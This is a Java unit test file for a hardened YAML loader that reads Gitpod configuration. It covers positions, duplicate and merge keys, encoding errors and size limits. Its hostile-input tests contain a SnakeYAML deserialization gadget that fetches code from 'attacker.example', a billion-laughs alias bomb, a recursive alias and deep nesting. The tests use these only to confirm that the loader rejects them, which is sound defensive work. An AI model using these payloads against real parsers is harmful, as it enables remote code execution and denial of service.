package dev.gitpodconfig.load;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gitpodconfig.testing.Yaml;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SafeYamlLoaderTest {

    private static final SafeYamlLoader LOADER = new SafeYamlLoader(LoadLimits.DEFAULTS);
    /** Marks the files that contain the word "needle". */
    private static final FileMarker MARKER = new FileMarker() {
        @Override
        public boolean isIn(byte[] bytes) {
            return ByteSearch.contains(bytes, Yaml.utf8("needle"));
        }

        @Override
        public boolean isIn(String text) {
            return text.contains("needle");
        }
    };

    private static LoadedFile load(byte[] bytes) {
        return LOADER.load(bytes, "conf/test.yaml", StandardCharsets.UTF_8);
    }

    private static LoadedFile load(String text) {
        return load(Yaml.utf8(text));
    }

    /** The single problem of a file that failed to load. */
    private static YamlProblem fileProblem(LoadedFile file) {
        assertEquals(1, file.problems().size(), () -> "problems: " + file.problems());
        YamlProblem problem = file.problems().get(0);
        assertEquals(YamlProblem.Kind.SYNTAX, problem.kind());
        return problem;
    }

    /** The single problem of the first document of a file that loaded. */
    private static YamlProblem documentProblem(LoadedFile file) {
        assertTrue(file.problems().isEmpty(), () -> "file problems: " + file.problems());
        List<YamlProblem> problems = file.documents().get(0).problems();
        assertEquals(1, problems.size(), () -> "document problems: " + problems);
        return problems.get(0);
    }

    private static void assertAt(YamlProblem problem, int line, int column) {
        assertAll(
                problem.toString(),
                () -> assertEquals(line, problem.position().line(), "line"),
                () -> assertEquals(column, problem.position().column(), "column"));
    }

    private static YamlMapping onlyRoot(LoadedFile file) {
        assertTrue(file.problems().isEmpty(), () -> "file problems: " + file.problems());
        assertEquals(1, file.documents().size());
        return assertInstanceOf(
                YamlMapping.class, file.documents().get(0).root().orElseThrow());
    }

    private static YamlScalar scalar(YamlMapping map, String key) {
        return assertInstanceOf(YamlScalar.class, map.get(key).orElseThrow());
    }

    private static byte[] concat(byte[] first, byte[] second) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(first);
        out.writeBytes(second);
        return out.toByteArray();
    }

    // --- valid input and positions ---

    @Test
    void loadsEveryDocumentOfAMultiDocumentFile() {
        LoadedFile file = load("""
                apiVersion: v1
                domain: gitpod.example.com
                ---
                kind: Secret
                ---
                # only a comment
                ...
                ---
                - a
                - b
                """);
        assertTrue(file.problems().isEmpty());
        assertEquals("conf/test.yaml", file.relativePath());
        assertEquals(4, file.documents().size());
        assertEquals(
                List.of(0, 1, 2, 3),
                file.documents().stream().map(LoadedDocument::index).toList());
        YamlMapping second = assertInstanceOf(
                YamlMapping.class, file.documents().get(1).root().orElseThrow());
        assertEquals(4, second.position().line());
        assertEquals("Secret", second.text("kind").orElseThrow());
        assertTrue(file.documents().get(2).root().isEmpty(), "a document with only a comment is empty");
        YamlSequence list = assertInstanceOf(
                YamlSequence.class, file.documents().get(3).root().orElseThrow());
        assertEquals(2, list.items().size());
        assertFalse(list.flowStyle());
    }

    @Test
    void nodesCarryOneBasedStartAndEndPositions() {
        YamlMapping root = onlyRoot(load("""
                apiVersion: v1
                containerRegistry:
                  inCluster: false
                  external:
                    url: "registry.example.com/gitpod"
                  privateBaseImageAllowList: [docker.io, quay.io]
                """));
        YamlMapping registry = root.mapping("containerRegistry").orElseThrow();
        YamlMapping.Entry inCluster = registry.entry("inCluster").orElseThrow();
        assertEquals(new Position(3, 3, 3, 12), inCluster.key().position(), "key 'inCluster'");
        assertEquals(new Position(3, 14, 3, 19), inCluster.value().position(), "value false");
        YamlScalar url = scalar(registry.mapping("external").orElseThrow(), "url");
        // A quoted scalar starts at its opening quote and ends after the closing one.
        assertEquals(new Position(5, 10, 5, 39), url.position());
        assertTrue(url.quoted());
        assertEquals("registry.example.com/gitpod", url.value());
        YamlSequence allow = assertInstanceOf(
                YamlSequence.class, registry.get("privateBaseImageAllowList").orElseThrow());
        assertTrue(allow.flowStyle());
        assertEquals(new Position(6, 30, 6, 50), allow.position());
        assertEquals(new Position(6, 42, 6, 49), allow.items().get(1).position());
        assertEquals(1, root.position().line());
        assertEquals(1, root.position().column());
    }

    @Test
    void crlfLineEndingsCountAsOneLineBreak() {
        YamlMapping root = onlyRoot(load("a: b\r\nc: d\r\n"));
        assertEquals(new Position(2, 4, 2, 5), scalar(root, "c").position());
    }

    @Test
    void scalarsResolveAsYaml11LikeTheInstaller() {
        YamlMapping root = onlyRoot(load("""
                yes: yes
                quotedFalse: "false"
                zero: 0
                float: 1.5
                nothing: ~
                empty:
                date: 2001-12-14
                text: hello
                str: !!str 123
                """));
        assertEquals(YamlScalar.ScalarType.BOOLEAN, scalar(root, "yes").type());
        assertEquals(YamlScalar.ScalarType.STRING, scalar(root, "quotedFalse").type());
        assertTrue(scalar(root, "quotedFalse").quoted());
        assertEquals(YamlScalar.ScalarType.INTEGER, scalar(root, "zero").type());
        assertEquals(YamlScalar.ScalarType.FLOAT, scalar(root, "float").type());
        assertTrue(scalar(root, "nothing").isNull());
        assertTrue(scalar(root, "empty").isNull());
        assertEquals("", scalar(root, "empty").value());
        assertEquals(YamlScalar.ScalarType.OTHER, scalar(root, "date").type());
        assertEquals(YamlScalar.ScalarType.STRING, scalar(root, "text").type());
        assertFalse(scalar(root, "text").quoted());
        assertEquals(YamlScalar.ScalarType.STRING, scalar(root, "str").type(), "standard tags are allowed");
        assertTrue(root.text("nothing").isEmpty(), "text() skips null");
    }

    @Test
    void theMarkerIsLookedForInEveryFile() {
        SafeYamlLoader marking = new SafeYamlLoader(LoadLimits.DEFAULTS, MARKER);
        assertTrue(marking.load(Yaml.utf8("x: needle\n"), "f.yaml", StandardCharsets.UTF_8)
                .marked());
        assertFalse(marking.load(Yaml.utf8("tasks:\n  - init: make\n"), "f.yaml", StandardCharsets.UTF_8)
                .marked());
        assertTrue(
                marking.load(Yaml.utf8("needle: [\n"), "f.yaml", StandardCharsets.UTF_8)
                        .marked(),
                "also for a file that does not parse");
        byte[] undecodable = {'n', 'e', 'e', 'd', 'l', 'e', ':', ' ', (byte) 0xC3, (byte) 0x28, '\n'};
        LoadedFile file = marking.load(undecodable, "f.yaml", StandardCharsets.UTF_8);
        assertTrue(
                fileProblem(file).message().contains("UTF-8"), fileProblem(file).message());
        assertTrue(file.marked(), "and in the raw bytes of a file that does not decode");
        assertFalse(load("needle: [\n").marked(), "a loader without a marker marks nothing");
    }

    // --- duplicate keys ---

    @Test
    void duplicateKeyNamesBothLinesAndPointsAtTheSecondKey() {
        LoadedFile file = load("""
                domain: gitpod.example.com
                containerRegistry:
                  inCluster: true
                  privateBaseImageAllowList: []
                  inCluster: false
                """);
        YamlProblem problem = documentProblem(file);
        assertEquals(YamlProblem.Kind.DUPLICATE_KEY, problem.kind());
        assertEquals(new Position(5, 3, 5, 12), problem.position());
        assertEquals("containerRegistry.inCluster", problem.yamlPath());
        assertTrue(problem.message().contains("first at line 3"), problem.message());
        assertTrue(problem.message().contains("again at line 5"), problem.message());
        // The first occurrence wins in the tree.
        YamlMapping registry = onlyRoot(file).mapping("containerRegistry").orElseThrow();
        assertEquals("true", registry.text("inCluster").orElseThrow());
    }

    @Test
    void differentComplexKeysAreNotDuplicates() {
        LoadedFile file = load("? [a, b]\n: 1\n? [c, d]\n: 2\n");
        assertTrue(
                file.documents().get(0).problems().isEmpty(),
                () -> file.documents().get(0).problems().toString());
    }

    @Test
    void duplicateTopLevelKeyHasTheKeyAsPath() {
        YamlProblem problem = documentProblem(load("domain: a.example.com\nkind: Full\ndomain: b.example.com\n"));
        assertEquals(YamlProblem.Kind.DUPLICATE_KEY, problem.kind());
        assertAt(problem, 3, 1);
        assertEquals("domain", problem.yamlPath());
    }

    @Test
    void aLongKeyIsShortenedInThePathsBelowIt() {
        String key = "k".repeat(500);
        YamlProblem problem = documentProblem(load("? " + key + "\n: {b: 1, b: 2}\n"));
        assertEquals("k".repeat(YamlPaths.LONGEST_KEY) + "….b", problem.yamlPath());
        assertEquals(
                "x".repeat(79) + "…",
                YamlPaths.key("x".repeat(79) + "\uD83D\uDE00" + "x".repeat(20)),
                "a surrogate pair is not split");
        assertEquals("x".repeat(80), YamlPaths.key("x".repeat(80)));
    }

    /** A 2 MB file can repeat a key hundreds of thousands of times; each problem costs its message and path. */
    @Test
    void aFileRecordsAtMostTenThousandProblemsOverAllItsDocuments() {
        StringBuilder yaml = new StringBuilder("a: 0\n");
        for (int i = 0; i < 6_000; i++) {
            yaml.append("a: ").append(i).append('\n');
        }
        String document = yaml.toString();
        LoadedFile file = load(document + "---\n" + document + "---\n" + document);
        assertEquals(
                List.of(6_000, 4_000, 0),
                file.documents().stream().map(d -> d.problems().size()).toList());
        assertEquals(LoadLimits.MAX_PROBLEMS_PER_FILE, 10_000);
        YamlProblem last = file.documents().get(1).problems().get(3_999);
        assertEquals(10_003, last.position().line(), "the first problems are the ones kept");
    }

    /** A key that is an alias to a long scalar is quoted at full length in each duplicate-key message. */
    @Test
    void theTextOfAFilesProblemsIsBoundedToo() {
        StringBuilder yaml = new StringBuilder("long: &k " + "v".repeat(100_000) + "\nm:\n");
        for (int i = 0; i < 1_000; i++) {
            yaml.append("  *k : ").append(i).append('\n');
        }
        List<YamlProblem> problems = load(yaml.toString()).documents().get(0).problems();
        long characters = problems.stream()
                .mapToLong(p -> p.message().length() + p.yamlPath().length())
                .sum();
        assertTrue(characters <= LoadLimits.MAX_PROBLEM_CHARACTERS_PER_FILE + 200_000, "characters " + characters);
        assertTrue(problems.size() >= 40 && problems.size() < 50, "problems " + problems.size());
        assertEquals(YamlProblem.Kind.DUPLICATE_KEY, problems.get(0).kind());
    }

    // --- merge keys ---

    @Test
    void mergeKeysCopyEntriesAndExplicitKeysWin() {
        YamlMapping root = onlyRoot(load("""
                base: &base
                  bucket: shared
                  region: eu-west-1
                s3storage:
                  <<: *base
                  region: us-east-1
                """));
        // YAML lets the explicit key win; the installer's strict parse (yaml.v2) calls it a duplicate.
        List<YamlProblem> problems = load("base: &base\n  a: 1\nchild:\n  <<: *base\n  a: 2\n")
                .documents()
                .get(0)
                .problems();
        assertEquals(1, problems.size(), problems::toString);
        assertEquals(YamlProblem.Kind.DUPLICATE_KEY, problems.get(0).kind());
        assertTrue(
                problems.get(0).message().contains("at line 2 and at line 5"),
                problems.get(0).message());
        YamlMapping s3 = root.mapping("s3storage").orElseThrow();
        assertEquals("us-east-1", s3.text("region").orElseThrow());
        assertEquals("shared", s3.text("bucket").orElseThrow());
        assertFalse(s3.get("<<").isPresent(), "the merge key itself is not an entry");
        assertEquals(2, scalar(s3, "bucket").position().line(), "merged values keep their own position");
    }

    @Test
    void mergeKeyAcceptsAListOfMappings() {
        YamlMapping root = onlyRoot(load("""
                a: &a {x: 1}
                b: &b {y: 2}
                c:
                  <<: [*a, *b]
                """));
        YamlMapping c = root.mapping("c").orElseThrow();
        assertEquals("1", c.text("x").orElseThrow());
        assertEquals("2", c.text("y").orElseThrow());
    }

    // --- hostile input ---

    @Test
    void globalCustomTagIsASyntaxProblemWithItsPosition() {
        LoadedFile file = load("""
            domain: gitpod.example.com
            exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
            """);
        YamlProblem problem = fileProblem(file);
        assertAt(problem, 2, 10);
        assertTrue(problem.message().contains("tag"), problem.message());
        assertTrue(file.documents().isEmpty(), "nothing of the document is kept");
    }

    @Test
    void verbatimGlobalTagIsRejectedToo() {
        YamlProblem problem = fileProblem(load("a: !<tag:yaml.org,2002:java.lang.Runtime> x\n"));
        assertAt(problem, 1, 4);
    }

    @Test
    void localCustomTagIsASyntaxProblemAtTheTaggedNode() {
        LoadedFile file = load("""
                domain: gitpod.example.com
                containerRegistry:
                  external: !foo
                    url: registry.example.com
                repository: !bar value
                """);
        List<YamlProblem> problems = file.documents().get(0).problems();
        assertEquals(2, problems.size(), () -> problems.toString());
        assertAll(
                () -> assertEquals(YamlProblem.Kind.SYNTAX, problems.get(0).kind()),
                () -> assertEquals("containerRegistry.external", problems.get(0).yamlPath()),
                () -> assertEquals(3, problems.get(0).position().line()),
                () -> assertEquals(
                        "a custom tag is not allowed: Gitpod configuration uses plain YAML only",
                        problems.get(0).message()),
                () -> assertEquals("repository", problems.get(1).yamlPath()),
                () -> assertEquals(new Position(5, 13, 5, 23), problems.get(1).position()),
                () -> assertFalse(
                        problems.get(1).message().contains("bar"),
                        problems.get(1).message()));
    }

    @Test
    void billionLaughsStopsAtTheAliasLimitQuickly() {
        StringBuilder yaml =
                new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char level = 'b'; level <= 'i'; level++) {
            char previous = (char) (level - 1);
            yaml.append(level).append(": &").append(level).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            yaml.append("]\n");
        }
        LoadedFile file = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> load(yaml.toString()));
        YamlProblem problem = fileProblem(file);
        assertTrue(problem.message().contains("aliases"), problem.message());
        assertTrue(problem.message().contains("50"), problem.message());
    }

    @Test
    void aliasesBelowTheLimitAreSharedNotCopied() {
        LoadedFile file = load("base: &b {k: v}\none: *b\ntwo: *b\n");
        YamlMapping root = onlyRoot(file);
        assertTrue(root.get("one").orElseThrow() == root.get("two").orElseThrow(), "an aliased node is one object");
    }

    @Test
    void recursiveAliasIsAProblemNotAStackOverflow() {
        LoadedFile file = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> load("a: &x\n  b: *x\n"));
        YamlProblem problem = documentProblem(file);
        assertEquals(YamlProblem.Kind.SYNTAX, problem.kind());
        assertEquals("a.b", problem.yamlPath());
        assertTrue(problem.message().contains("recursive alias"), problem.message());
        assertAt(problem, 1, 4);
    }

    @Test
    void nestingFarBeyondTheLimitIsAProblemNotAStackOverflow() {
        String brackets = "[".repeat(20_000);
        YamlProblem problem = fileProblem(assertTimeoutPreemptively(Duration.ofSeconds(10), () -> load(brackets)));
        assertTrue(problem.message().contains("Nesting Depth"), problem.message());
        String braces = "a: " + "{b: ".repeat(20_000);
        assertTrue(fileProblem(load(braces)).message().contains("Nesting Depth"));
    }

    @Test
    void nestingIsBoundedByTheConfiguredLimit() {
        SafeYamlLoader shallow = new SafeYamlLoader(new LoadLimits(1000, 5, 5));
        String fits = "[".repeat(4) + "x" + "]".repeat(4);
        String tooDeep = "[".repeat(8) + "x" + "]".repeat(8);
        assertTrue(shallow.load(Yaml.utf8(fits), "f.yaml", StandardCharsets.UTF_8)
                .problems()
                .isEmpty());
        assertEquals(
                1,
                shallow.load(Yaml.utf8(tooDeep), "f.yaml", StandardCharsets.UTF_8)
                        .problems()
                        .size());
    }

    @Test
    void fileLargerThanTheLimitIsNotParsed() {
        SafeYamlLoader small = new SafeYamlLoader(new LoadLimits(100, 50, 50), MARKER);
        byte[] exactly = Yaml.utf8("needle: x\n" + "#".repeat(100 - 11) + "\n");
        assertEquals(100, exactly.length);
        assertTrue(
                small.load(exactly, "f.yaml", StandardCharsets.UTF_8).problems().isEmpty(),
                "the limit itself is allowed");
        byte[] tooLarge = Yaml.utf8("needle: x\n" + "#".repeat(101 - 11) + "\n");
        LoadedFile file = small.load(tooLarge, "f.yaml", StandardCharsets.UTF_8);
        YamlProblem problem = fileProblem(file);
        assertEquals(Position.START_OF_FILE, problem.position());
        assertTrue(problem.message().contains("larger than the limit of 100 bytes"), problem.message());
        assertTrue(file.documents().isEmpty());
        assertTrue(file.marked(), "an oversized file is still marked");
    }

    @Test
    void invalidUtf8NamesTheLineAndColumnOfTheBadByte() {
        byte[] bytes =
                concat(Yaml.utf8("domain: gitpod.example.com\nrepository: ab"), new byte[] {(byte) 0xC3, 0x28, '\n'});
        LoadedFile file = load(bytes);
        YamlProblem problem = fileProblem(file);
        assertAt(problem, 2, 15);
        assertTrue(problem.message().contains("not valid UTF-8"), problem.message());
        assertTrue(problem.message().contains("0xC3"), problem.message());
        assertEquals("", file.text());
    }

    @Test
    void invalidUtf8ColumnCountsCharactersNotBytes() {
        // "Müller" has a two-byte character: the bad byte is the 15th byte but the 14th character of its line.
        byte[] bytes = concat(Yaml.utf8("a: b\nname: Müller "), new byte[] {(byte) 0xFF, '\n'});
        assertAt(fileProblem(load(bytes)), 2, 14);
    }

    @Test
    void invalidUtf16IsLocatedInCharactersToo() {
        byte[] text = "a: b\nc: ".getBytes(StandardCharsets.UTF_16LE);
        // A high surrogate followed by an ordinary character is malformed UTF-16.
        byte[] bytes =
                concat(concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, text), new byte[] {0x00, (byte) 0xD8, 'x', 0x00});
        YamlProblem problem = fileProblem(load(bytes));
        assertAt(problem, 2, 4);
        assertTrue(problem.message().contains("not valid UTF-16LE"), problem.message());
    }

    @Test
    void latin1FileDecodesWhenThatEncodingIsConfigured() {
        byte[] latin1 = "name: M\u00fcller\n".getBytes(StandardCharsets.ISO_8859_1);
        assertEquals(1, load(latin1).problems().size(), "not UTF-8");
        LoadedFile file = LOADER.load(latin1, "f.yaml", StandardCharsets.ISO_8859_1);
        assertEquals("M\u00fcller", onlyRoot(file).text("name").orElseThrow());
    }

    @Test
    void nulByteIsAProblemAtItsPosition() {
        LoadedFile file = load("domain: gitpod.example.com\nrepository: ab\u0000cd\n");
        YamlProblem problem = fileProblem(file);
        assertAt(problem, 2, 15);
        assertTrue(problem.message().contains("U+0000"), problem.message());
    }

    @Test
    void controlCharacterPositionCountsCodePointsAndEveryYamlLineBreak() {
        // The emoji is two chars but one column, as in SnakeYAML's own marks.
        assertAt(fileProblem(load("a: \uD83D\uDE00 \u0000\n")), 1, 6);
        assertAt(fileProblem(load("a: b\rc: \u0001\n")), 2, 4);
        assertAt(fileProblem(load("a: b\r\nc: \u0001\n")), 2, 4);
        assertAt(fileProblem(load("a: b\u2028c: d\u0085e: \u0002\n")), 3, 4);
    }

    @Test
    void byteOrderMarksAreHonouredAndDoNotShiftColumns() {
        String yaml = "domain: gitpod.example.com\n";
        byte[] utf8 = concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, yaml.getBytes(StandardCharsets.UTF_8));
        byte[] utf16le = concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, yaml.getBytes(StandardCharsets.UTF_16LE));
        byte[] utf16be = concat(new byte[] {(byte) 0xFE, (byte) 0xFF}, yaml.getBytes(StandardCharsets.UTF_16BE));
        for (byte[] bytes : List.of(utf8, utf16le, utf16be)) {
            // The configured charset is ignored when there is a byte-order mark.
            LoadedFile file = LOADER.load(bytes, "f.yaml", Charset.forName("windows-1252"));
            YamlScalar domain = scalar(onlyRoot(file), "domain");
            assertEquals("gitpod.example.com", domain.value());
            assertEquals(new Position(1, 9, 1, 27), domain.position());
            assertFalse(file.text().startsWith("\uFEFF"));
        }
    }

    @Test
    void tabIndentationIsASyntaxProblem() {
        YamlProblem problem = fileProblem(load("containerRegistry:\n\tinCluster: true\n"));
        assertAt(problem, 2, 1);
        assertEquals(
                "invalid YAML: while scanning for the next token, found a tab, which cannot start any token: "
                        + "YAML is indented with spaces only",
                problem.message());
    }

    @Test
    void aTabBetweenAColonAndItsValueIsASeparatorAsInTheInstaller() {
        // yaml.v2 (the installer's reader) takes inCluster:<TAB>false; the value keeps its position.
        LoadedFile file = load("containerRegistry:\n  inCluster:\t\tfalse\n  url: \"a:\tb\"\n");
        assertTrue(file.problems().isEmpty(), () -> file.problems().toString());
        YamlMapping registry =
                (YamlMapping) onlyRoot(file).get("containerRegistry").orElseThrow();
        YamlScalar inCluster = scalar(registry, "inCluster");
        assertEquals("false", inCluster.value());
        assertEquals(YamlScalar.ScalarType.BOOLEAN, inCluster.type());
        assertEquals(2, inCluster.position().line());
        assertEquals(15, inCluster.position().column());
        assertEquals("a:\tb", scalar(registry, "url").value(), "a tab inside a quoted scalar is content");
        assertEquals("containerRegistry:\n  inCluster:\t\tfalse\n  url: \"a:\tb\"\n", file.text());
    }

    @Test
    void aTabAfterAListDashOrIndentingAValueLineStaysASyntaxProblem() {
        assertAt(fileProblem(load("domain:\n\tgitpod.example.com\n")), 2, 1);
        assertAt(fileProblem(load("workspace: {}\nopenVSX:\n\tproxy: {}\n")), 3, 1);
    }

    @Test
    void unclosedQuoteIsASyntaxProblem() {
        YamlProblem problem = fileProblem(load("domain: \"gitpod.example.com\nrepository: x\n"));
        assertTrue(problem.message().contains("quoted scalar"), problem.message());
        assertAt(problem, 3, 1);
    }

    @Test
    void documentsBeforeASyntaxErrorAreKept() {
        LoadedFile file = load("domain: gitpod.example.com\n---\nobjectStorage: [\n");
        assertEquals(1, file.documents().size());
        assertEquals(1, file.problems().size());
        assertEquals(4, file.problems().get(0).position().line(), "reported at the end of the stream");
    }

    @Test
    void emptyFileHasNoDocumentsAndNoProblems() {
        LoadedFile empty = load("");
        assertTrue(empty.documents().isEmpty());
        assertTrue(empty.problems().isEmpty());
        LoadedFile separatorOnly = load("---\n");
        assertEquals(1, separatorOnly.documents().size());
        assertTrue(separatorOnly.documents().get(0).root().isEmpty(), "an empty document has no root");
    }

    // --- the Path overload ---

    @Test
    void loadsAFileFromDisk(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("gitpod.config.yaml");
        Files.writeString(file, "domain: gitpod.example.com\n");
        LoadedFile loaded = LOADER.load(file, "gitpod.config.yaml", StandardCharsets.UTF_8);
        assertEquals("gitpod.example.com", onlyRoot(loaded).text("domain").orElseThrow());
        assertEquals("domain: gitpod.example.com\n", loaded.text());
    }

    @Test
    void fileDeletedBeforeReadingIsAProblemNotAnException(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("gone.yaml");
        Files.writeString(file, "domain: x\n");
        Files.delete(file);
        LoadedFile loaded = LOADER.load(file, "gone.yaml", StandardCharsets.UTF_8);
        YamlProblem problem = fileProblem(loaded);
        assertTrue(problem.message().contains("disappeared"), problem.message());
        assertEquals(Position.START_OF_FILE, problem.position());
        assertEquals("gone.yaml", loaded.relativePath());
    }

    @Test
    void directoryInsteadOfAFileIsAProblemNotAnException(@TempDir Path dir) throws IOException {
        Path folder = Files.createDirectory(dir.resolve("x.yaml"));
        YamlProblem problem = fileProblem(LOADER.load(folder, "x.yaml", StandardCharsets.UTF_8));
        assertTrue(problem.message().contains("could not be read"), problem.message());
    }

    @Test
    void oversizedFileOnDiskIsReadOnlyUpToTheLimit(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("big.yaml");
        Files.writeString(file, "needle: x\n" + "#".repeat(10_000) + "\n");
        SafeYamlLoader small = new SafeYamlLoader(new LoadLimits(1000, 50, 50), MARKER);
        LoadedFile loaded = small.load(file, "big.yaml", StandardCharsets.UTF_8);
        assertTrue(fileProblem(loaded).message().contains("larger than the limit of 1000 bytes"));
        assertTrue(loaded.marked());
    }

    @Test
    void limitsRejectNonsense() {
        assertThrows(IllegalArgumentException.class, () -> new LoadLimits(0, 50, 50));
        assertThrows(IllegalArgumentException.class, () -> new LoadLimits(10, 0, 50));
        assertThrows(IllegalArgumentException.class, () -> new LoadLimits(10, 5, -1));
        assertThrows(IllegalArgumentException.class, () -> new LoadLimits(Integer.MAX_VALUE, 5, 5));
    }

    @Test
    void syntaxMessagesQuoteNoSourceText() {
        // Each text plants "Pl4nt" in the token the scanner, parser or composer stops at.
        for (String yaml : List.of(
                "a: *Pl4ntAlias\n",
                "a: !!Pl4ntGlobalTag x\n",
                "a: \"Pl4nt\\qEscape\"\n",
                "a: \"Pl4nt\\x4GHex\"\n",
                "a: !Pl4nt!Handle x\n",
                "%TAG !Pl4nt! tag:example.com,2000:\n%TAG !Pl4nt! tag:example.com,2000:\n---\na: x\n",
                "%YAML 1.Pl4nt\n---\na: x\n",
                "%YAML 1.99999999999999999999\n---\na: x\n",
                "a: &Pl4nt,Anchor x\n",
                "a: !<Pl4ntVerbatim x\n",
                "a: !Pl4nt%zzUri x\n",
                "a: |Pl4nt\n  x\n",
                "a: @Pl4ntReserved\n",
                "a: [x, y\nb: Pl4ntFlow\n",
                "a: b: Pl4ntValue\n")) {
            LoadedFile file = load(yaml);
            List<YamlProblem> problems = new ArrayList<>(file.problems());
            file.documents().forEach(document -> problems.addAll(document.problems()));
            assertFalse(problems.isEmpty(), yaml);
            for (YamlProblem problem : problems) {
                assertFalse(problem.message().contains("Pl4nt"), () -> yaml + " gave: " + problem.message());
                assertFalse(problem.message().matches(".*\\(\\d+\\).*"), () -> yaml + " gave: " + problem.message());
            }
        }
    }

    @Test
    void syntaxMessagesNameTheKindOfCharacterFound() {
        assertEquals(
                "invalid YAML: while scanning a double-quoted scalar, found an escape sequence that YAML does not "
                        + "define",
                fileProblem(load("a: \"x\\qy\"\n")).message());
        assertEquals(
                "invalid YAML: while scanning a directive, expected a digit, but found a character that is not "
                        + "allowed here",
                fileProblem(load("%YAML 1.x\n---\na: b\n")).message());
        assertEquals(
                "invalid YAML: while scanning a block scalar, expected a comment or a line break, but found a "
                        + "character that is not allowed here",
                fileProblem(load("a: | x\n")).message());
        assertEquals(
                "invalid YAML: while parsing a block mapping, expected <block end>, "
                        + "but found '<block mapping start>'",
                fileProblem(load("a:\n  b: 1\n c: 2\n")).message());
        assertEquals(
                "invalid YAML: mapping values are not allowed here",
                fileProblem(load("a: b: c\n")).message());
    }

    @Test
    void theDocumentThatStopsLoadingKeepsWhatItHoldsAtSecretPositions() {
        SecretPaths passwords = path -> "password".equals(path.get(path.size() - 1));
        SafeYamlLoader loader = new SafeYamlLoader(LoadLimits.DEFAULTS, passwords);
        LoadedFile file = loader.load(Yaml.utf8("""
                password: first-document-password
                ---
                user: robot
                url: https://robot:Url-Password@registry.example.com
                password: !Tagged &Anchored "Quoted-Password"
                password: *Undefined
                """), "t.yaml", StandardCharsets.UTF_8);
        assertEquals(1, file.documents().size());
        assertEquals(1, file.problems().size());
        assertEquals(
                List.of(
                        new SecretSpan(
                                new Position(4, 6, 4, 53),
                                false,
                                List.of("https://robot:Url-Password@registry.example.com")),
                        new SecretSpan(
                                new Position(5, 11, 5, 46),
                                true,
                                List.of("Quoted-Password", "Anchored", "!Tagged", "Tagged")),
                        new SecretSpan(new Position(6, 11, 6, 21), true, List.of("Undefined"))),
                file.brokenDocumentSecrets());
        assertTrue(
                LOADER.load(Yaml.utf8("password: *Undefined\n"), "t.yaml", StandardCharsets.UTF_8)
                        .brokenDocumentSecrets()
                        .isEmpty(),
                "a loader without secret paths keeps nothing");
        assertTrue(
                loader.load(Yaml.utf8("password: x\n"), "t.yaml", StandardCharsets.UTF_8)
                        .brokenDocumentSecrets()
                        .isEmpty(),
                "nothing is kept of documents that loaded");
    }
}
